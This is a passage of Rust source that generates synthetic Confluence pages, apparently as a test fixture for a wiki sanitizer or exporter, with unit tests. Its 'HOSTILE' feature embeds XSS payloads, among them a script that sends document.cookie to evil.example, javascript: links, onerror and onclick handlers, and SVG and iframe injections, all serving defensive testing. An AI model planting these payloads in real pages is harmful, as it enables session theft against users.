        "<config>\n  <entry key=\"a\"><![CDATA[raw <data>]]></entry>\n  <!-- <b>not bold</b> -->\n</config>",
    ),
    (
        "bash",
        "curl -u me@example.com:$TOKEN \"https://site.atlassian.net/wiki/api/v2/pages?limit=250\" | jq '.results[] | select(.id < \"5\")'",
    ),
    (
        "html",
        "<script>alert('inside a code block is fine')</script>\n<a href=\"javascript:void(0)\">x</a>",
    ),
];

fn page_link(title: &str, space_key: Option<&str>, text: &str) -> String {
    let space = space_key
        .map(|k| format!(" ri:space-key=\"{}\"", xml_escape(k)))
        .unwrap_or_default();
    format!(
        "<ac:link><ri:page ri:content-title=\"{}\"{space}/><ac:plain-text-link-body>{}</ac:plain-text-link-body></ac:link>",
        xml_escape(title),
        cdata(text)
    )
}

fn random_page<'a>(
    s: &'a State,
    rng: &mut ChaCha8Rng,
    pred: impl Fn(&Page) -> bool,
) -> Option<&'a Page> {
    let first = *s.pages.keys().next()?;
    let last = *s.pages.keys().next_back()?;
    for _ in 0..12 {
        let probe = rng.random_range(first..=last);
        for (_, p) in s.pages.range(probe..).take(64) {
            if p.status == PageStatus::Current && pred(p) {
                return Some(p);
            }
        }
    }
    s.pages
        .values()
        .find(|p| p.status == PageStatus::Current && pred(p))
}

/// Renders a page's storage-format body (generated bodies are built on demand).
pub fn render_body(s: &State, page: &Page) -> String {
    let (seed, f) = match &page.body {
        Body::Stored(b) => return b.to_string(),
        Body::Generated { seed, features } => (*seed, *features),
    };
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let space_key = s
        .spaces
        .get(&page.space_id)
        .map(|sp| sp.key.as_str())
        .unwrap_or("KB");
    let topic = TOPICS.choose(&mut rng).copied().unwrap_or("the product");
    let atts: Vec<&Attachment> = s
        .page_attachments
        .get(&page.id)
        .map(|ids| ids.iter().filter_map(|a| s.attachments.get(a)).collect())
        .unwrap_or_default();
    let mut out = String::with_capacity(2048);
    let has = |bit: u32| f & bit != 0;

    if has(feat::TOC) {
        out.push_str("<ac:structured-macro ac:name=\"toc\" ac:schema-version=\"1\"><ac:parameter ac:name=\"maxLevel\">3</ac:parameter></ac:structured-macro>");
    }
    if has(feat::EXCERPT) {
        let _ = write!(
            out,
            "<ac:structured-macro ac:name=\"excerpt\" ac:schema-version=\"1\"><ac:rich-text-body><p>This article explains {} for administrators &amp; users.</p></ac:rich-text-body></ac:structured-macro>",
            xml_escape(topic)
        );
    }
    let _ = write!(
        out,
        "<h1>Overview</h1><p>This page describes <strong>{}</strong> in detail. It applies to all plans &mdash; see <em>below</em> for limits &amp; caveats.</p>",
        xml_escape(topic)
    );
    if has(feat::STATUS) {
        let (colour, title) = [
            ("Green", "DONE"),
            ("Yellow", "IN PROGRESS"),
            ("Red", "DEPRECATED"),
        ]
        .choose(&mut rng)
        .copied()
        .unwrap_or(("Grey", "DRAFT"));
        let _ = write!(
            out,
            "<p>Status: <ac:structured-macro ac:name=\"status\" ac:schema-version=\"1\"><ac:parameter ac:name=\"colour\">{colour}</ac:parameter><ac:parameter ac:name=\"title\">{title}</ac:parameter></ac:structured-macro> <ac:structured-macro ac:name=\"status\" ac:schema-version=\"1\"><ac:parameter ac:name=\"subtle\">true</ac:parameter><ac:parameter ac:name=\"colour\">Blue</ac:parameter><ac:parameter ac:name=\"title\">BETA</ac:parameter></ac:structured-macro></p>"
        );
    }
    if has(feat::PANELS) {
        for (name, text) in [
            ("info", "Available on all plans."),
            ("note", "Changes take up to 5 minutes to apply."),
            ("warning", "This cannot be undone!"),
            ("tip", "Use keyboard shortcuts < and > to navigate."),
        ] {
            let _ = write!(
                out,
                "<ac:structured-macro ac:name=\"{name}\" ac:schema-version=\"1\"><ac:parameter ac:name=\"title\">{}</ac:parameter><ac:rich-text-body><p>{}</p></ac:rich-text-body></ac:structured-macro>",
                name.to_uppercase(),
                xml_escape(text)
            );
        }
        // Today's editor: the purple Note panel (an ADF extension, no storage macro) and a
        // custom panel with its own colour and emoji.
        out.push_str("<ac:adf-extension><ac:adf-node type=\"panel\"><ac:adf-attribute key=\"panel-type\">note</ac:adf-attribute><ac:adf-content><p>Keep your recovery codes somewhere safe.</p></ac:adf-content></ac:adf-node><ac:adf-fallback><div class=\"panel\"><p>Keep your recovery codes somewhere safe.</p></div></ac:adf-fallback></ac:adf-extension>");
        out.push_str("<ac:structured-macro ac:name=\"panel\" ac:schema-version=\"1\"><ac:parameter ac:name=\"panelIcon\">:bulb:</ac:parameter><ac:parameter ac:name=\"panelIconId\">1f4a1</ac:parameter><ac:parameter ac:name=\"panelIconText\">&#128161;</ac:parameter><ac:parameter ac:name=\"bgColor\">#E3FCEF</ac:parameter><ac:rich-text-body><p>Tip from the team: pin this page.</p></ac:rich-text-body></ac:structured-macro>");
    }
    if has(feat::ANCHOR) {
        out.push_str("<p><ac:link ac:anchor=\"details\"><ac:plain-text-link-body><![CDATA[Jump to details]]></ac:plain-text-link-body></ac:link></p>");
    }
    if has(feat::LISTS) {
        out.push_str("<h2>Steps</h2><ol><li><p>Open <strong>Settings</strong>.</p></li><li><p>Select the option:</p><ul><li>Enable</li><li>Disable <code>legacy_mode</code></li></ul></li><li><p>Save.</p></li></ol>");
        out.push_str("<ac:task-list><ac:task><ac:task-id>1</ac:task-id><ac:task-status>complete</ac:task-status><ac:task-body>Back up your settings</ac:task-body></ac:task><ac:task><ac:task-id>2</ac:task-id><ac:task-status>incomplete</ac:task-status><ac:task-body>Tell your team about the change</ac:task-body></ac:task></ac:task-list>");
    }
    if has(feat::TABLE) {
        out.push_str("<ac:layout><ac:layout-section ac:type=\"two_equal\" ac:breakout-mode=\"default\"><ac:layout-cell><h3>Before</h3><p>Settings are saved per browser.</p></ac:layout-cell><ac:layout-cell><h3>After</h3><p>Settings follow your account.</p></ac:layout-cell></ac:layout-section></ac:layout>");
        out.push_str("<table data-layout=\"default\"><colgroup><col/><col/></colgroup><tbody><tr><th><p>Setting</p></th><th><p>Default</p></th></tr><tr><td><p>Timeout</p></td><td><p>30 s</p></td></tr><tr><td><p>Max items</p></td><td><p>250</p></td></tr><tr><td><p>Format</p></td><td><p>&lt;json&gt;</p></td></tr></tbody></table>");
    }
    if has(feat::CODE) {
        let (lang, code) = CODE_SNIPPETS
            .choose(&mut rng)
            .copied()
            .unwrap_or(("text", "x"));
        let _ = write!(
            out,
            "<ac:structured-macro ac:name=\"code\" ac:schema-version=\"1\"><ac:parameter ac:name=\"language\">{lang}</ac:parameter><ac:parameter ac:name=\"linenumbers\">true</ac:parameter><ac:plain-text-body>{}</ac:plain-text-body></ac:structured-macro>",
            cdata(code)
        );
        // always include one `]]>`-adjacent snippet (with line wrapping on)
        let _ = write!(
            out,
            "<ac:structured-macro ac:name=\"code\" ac:schema-version=\"1\"><ac:parameter ac:name=\"wrap\">true</ac:parameter><ac:plain-text-body>{}</ac:plain-text-body></ac:structured-macro>",
            cdata("x = arr[idx[0]]>>2; // ]]> inside code <tag>")
        );
    }
    if has(feat::EXPAND) {
        out.push_str("<ac:structured-macro ac:name=\"expand\" ac:schema-version=\"1\"><ac:parameter ac:name=\"title\">Show details</ac:parameter><ac:rich-text-body><p>Hidden details with a <a href=\"https://status.example.com/\">status link</a>.</p></ac:rich-text-body></ac:structured-macro>");
        // Tabs from a marketplace app (Composition's ui-tabs).
        out.push_str("<ac:structured-macro ac:name=\"ui-tabs\" ac:schema-version=\"1\"><ac:rich-text-body><ac:structured-macro ac:name=\"ui-tab\" ac:schema-version=\"1\"><ac:parameter ac:name=\"title\">Windows</ac:parameter><ac:rich-text-body><p>Open the Start menu and search for the app.</p></ac:rich-text-body></ac:structured-macro><ac:structured-macro ac:name=\"ui-tab\" ac:schema-version=\"1\"><ac:parameter ac:name=\"title\">macOS</ac:parameter><ac:rich-text-body><p>Open Launchpad and search for the app.</p></ac:rich-text-body></ac:structured-macro></ac:rich-text-body></ac:structured-macro>");
    }
    if has(feat::ANCHOR) {
        out.push_str("<h2>Details</h2><ac:structured-macro ac:name=\"anchor\" ac:schema-version=\"1\"><ac:parameter ac:name=\"\">details</ac:parameter></ac:structured-macro><p>More information.</p>");
    }
    if has(feat::IMAGE) {
        if let Some(img) = atts.iter().find(|a| a.media_type.starts_with("image/")) {
            let _ = write!(
                out,
                "<p><ac:image ac:height=\"250\" ac:alt=\"diagram\"><ri:attachment ri:filename=\"{}\"/></ac:image></p>",
                xml_escape(&img.title)
            );
        } else {
            out.push_str("<p><ac:image><ri:url ri:value=\"https://images.example.com/logo.png\"/></ac:image></p>");
        }
    }
    if has(feat::ATTACHMENT_LINK)
        && let Some(a) = atts.first()
    {
        let _ = write!(
            out,
            "<p>Download: <ac:link><ri:attachment ri:filename=\"{}\"/><ac:plain-text-link-body>{}</ac:plain-text-link-body></ac:link></p>",
            xml_escape(&a.title),
            cdata(&a.title)
        );
    }
    if has(feat::PAGE_LINK)
        && let Some(p) = random_page(s, &mut rng, |p| {
            p.space_id == page.space_id && p.id != page.id
        })
    {
        let _ = write!(
            out,
            "<p>See also {}.</p>",
            page_link(&p.title, None, &p.title)
        );
    }
    if has(feat::CROSS_SPACE_LINK)
        && let Some(p) = random_page(s, &mut rng, |p| p.space_id != page.space_id)
    {
        let key = s.spaces.get(&p.space_id).map(|sp| sp.key.as_str());
        let _ = write!(
            out,
            "<p>Related: {}.</p>",
            page_link(&p.title, key, "related article")
        );
    }
    if has(feat::RESTRICTED_LINK)
        && let Some(p) = random_page(s, &mut rng, |p| !p.read_restrictions.is_empty())
    {
        let key = s.spaces.get(&p.space_id).map(|sp| sp.key.as_str());
        let _ = write!(
            out,
            "<p>Internal: {}.</p>",
            page_link(&p.title, key, &p.title)
        );
    }
    if has(feat::INCLUDE)
        && let Some(p) = random_page(s, &mut rng, |p| p.id != page.id)
    {
        let key = s.spaces.get(&p.space_id).map(|sp| sp.key.as_str());
        let _ = write!(
            out,
            "<ac:structured-macro ac:name=\"include\" ac:schema-version=\"1\"><ac:parameter ac:name=\"\">{}</ac:parameter></ac:structured-macro>",
            page_link(&p.title, key, &p.title)
        );
    }
    if has(feat::EXCERPT_INCLUDE)
        && let Some(p) = random_page(s, &mut rng, |p| p.id != page.id)
    {
        let key = s.spaces.get(&p.space_id).map(|sp| sp.key.as_str());
        let _ = write!(
            out,
            "<ac:structured-macro ac:name=\"excerpt-include\" ac:schema-version=\"1\"><ac:parameter ac:name=\"nopanel\">true</ac:parameter><ac:parameter ac:name=\"\">{}</ac:parameter></ac:structured-macro>",
            page_link(&p.title, key, &p.title)
        );
    }
    if has(feat::CHILDREN) {
        out.push_str("<h2>In this section</h2><ac:structured-macro ac:name=\"children\" ac:schema-version=\"2\"><ac:parameter ac:name=\"all\">true</ac:parameter><ac:parameter ac:name=\"sort\">title</ac:parameter></ac:structured-macro>");
    }
    if has(feat::CONTENT_BY_LABEL) {
        let label = LABELS.choose(&mut rng).copied().unwrap_or("faq");
        let _ = write!(
            out,
            "<ac:structured-macro ac:name=\"contentbylabel\" ac:schema-version=\"3\"><ac:parameter ac:name=\"showLabels\">false</ac:parameter><ac:parameter ac:name=\"max\">10</ac:parameter><ac:parameter ac:name=\"cql\">label = &quot;{label}&quot; and space = &quot;{space_key}&quot;</ac:parameter></ac:structured-macro>"
        );
    }
    if has(feat::JIRA) {
        let n: u32 = rng.random_range(1..5000);
        let _ = write!(
            out,
            "<p>Tracked in <ac:structured-macro ac:name=\"jira\" ac:schema-version=\"1\"><ac:parameter ac:name=\"server\">System JIRA</ac:parameter><ac:parameter ac:name=\"serverId\">a1b2c3d4-0000-1111-2222-333344445555</ac:parameter><ac:parameter ac:name=\"key\">SUP-{n}</ac:parameter></ac:structured-macro></p>"
        );
    }
    if has(feat::UNKNOWN_MACRO) {
        out.push_str("<ac:structured-macro ac:name=\"acme-roadmap-planner\" ac:schema-version=\"1\" data-layout=\"default\"><ac:parameter ac:name=\"board\">42</ac:parameter><ac:rich-text-body><p>Roadmap content rendered by a third-party app.</p></ac:rich-text-body></ac:structured-macro>");
    }
    if has(feat::MENTION)
        && let Some(u) = s.users.get(&page.author_id)
    {
        let _ = write!(
            out,
            "<p>Owner: <ac:link><ri:user ri:account-id=\"{}\"/></ac:link></p>",
            xml_escape(&u.account_id)
        );
    }
    if has(feat::HOSTILE) {
        out.push_str("<p>Legacy content imported from the old wiki:</p><script>fetch('https://evil.example/steal?c='+document.cookie)</script><p><a href=\"javascript:alert(document.domain)\">Click for the full guide</a></p><p><img src=\"x\" onerror=\"alert(1)\"/></p><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert('svg')</script></svg><iframe src=\"https://evil.example/frame\"></iframe><p><a href=\"https://example.com/\" onclick=\"alert(2)\" style=\"position:fixed;top:0\">harmless?</a></p><ac:structured-macro ac:name=\"html\" ac:schema-version=\"1\"><ac:plain-text-body><![CDATA[<script>alert('html macro')</script>]]></ac:plain-text-body></ac:structured-macro>");
    }
    out.push_str("<p>Last reviewed by the support team.</p>");
    out
}

/// Which feature names a body contains (for coverage tests).
pub fn feature_names(features: u32) -> Vec<&'static str> {
    (0..feat::COUNT)
        .filter(|b| features & (1 << b) != 0)
        .map(|b| feat::NAMES[b as usize])
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small() -> SimConfig {
        SimConfig {
            seed: "unit".into(),
            pages: 120,
            users: 60,
            ..SimConfig::default()
        }
    }

    #[test]
    fn same_seed_same_site_other_seed_other_site() {
        let a = generate(&small());
        let b = generate(&small());
        let c = generate(&SimConfig {
            seed: "other".into(),
            ..small()
        });
        let dump = |s: &State| {
            let bodies: Vec<String> = s.pages.values().map(|p| render_body(s, p)).collect();
            (
                format!("{:?}", s.users),
                format!("{:?}", s.pages),
                bodies,
                format!("{:?}", s.groups),
            )
        };
        assert_eq!(dump(&a), dump(&b));
        assert_ne!(dump(&a), dump(&c));
    }

    #[test]
    fn covers_every_content_kind_and_user_kind() {
        let s = generate(&small());
        let all = s.pages.values().fold(0u32, |acc, p| match p.body {
            Body::Generated { features, .. } => acc | features,
            Body::Stored(_) => acc,
        });
        assert_eq!(feature_names(all).len(), feat::COUNT as usize);
        let bodies: String = s.pages.values().map(|p| render_body(&s, p)).collect();
        for needle in [
            "]]]]><![CDATA[>",
            "ac:name=\"code\"",
            "ac:name=\"info\"",
            "ac:name=\"warning\"",
            "ac:name=\"expand\"",
            "ac:name=\"ui-tabs\"",
            "ac:name=\"panel\"",
            "key=\"panel-type\"",
            "ac:task-list",
            "ac:layout-section ac:type=\"two_equal\"",
            "ri:attachment",
            "ri:page",
            "ri:space-key",
            "ac:name=\"include\"",
            "ac:name=\"excerpt-include\"",
            "ac:name=\"children\"",
            "ac:name=\"jira\"",
            "ac:name=\"contentbylabel\"",
            "acme-roadmap-planner",
            "<script>",
            "javascript:",
            "onerror=",
            "<svg",
            "<iframe",
        ] {
            assert!(bodies.contains(needle), "missing {needle}");
        }
        assert!(s.pages.values().any(|p| !p.read_restrictions.is_empty()
            && s.children.get(&p.id).is_some_and(|c| !c.is_empty())));
        assert!(s.pages.values().any(|p| p.versions.len() > 1));
        assert!(!s.attachments.is_empty());
        for k in [UserKind::Licensed, UserKind::Guest, UserKind::Unlicensed] {
            assert!(s.users.values().any(|u| u.kind == k));
        }
        assert!(s.users.values().any(|u| u.status == UserStatus::Inactive));
        assert!(
            s.users
                .values()
                .any(|u| u.email.ends_with("@xn--bcher-kva.de"))
        );
        assert!(s.guest_count() <= s.licensed_count() * 5);
    }
}
